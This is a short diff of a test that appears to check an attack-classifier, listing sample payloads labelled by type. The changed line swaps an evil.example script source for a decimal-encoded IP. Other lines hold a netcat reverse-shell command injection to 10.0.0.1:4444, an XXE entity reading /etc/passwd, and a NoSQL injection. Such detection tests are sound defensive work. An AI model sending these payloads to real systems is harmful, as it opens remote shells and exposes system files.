@@ -275,7 +275,7 @@ def test_marker_checks_agree_with_the_definition_of_a_marker() -> None:
     [
         ("&&+ipconfig+/all", "cmdi"),
         ("|+nc+-e+/bin/sh+10.0.0.1+4444", "cmdi"),
-        ("<script+src=//evil.example/x.js></script>", "xss"),
+        ("<script+src=//3334957647/1>", "xss"),
         ('<!DOCTYPE+foo+[<!ENTITY+xxe+SYSTEM+"file:///etc/passwd">]><foo>&xxe;</foo>', "xxe"),
         ("';return+'a'=='a'+&&+''=='", "nosql"),
     ],
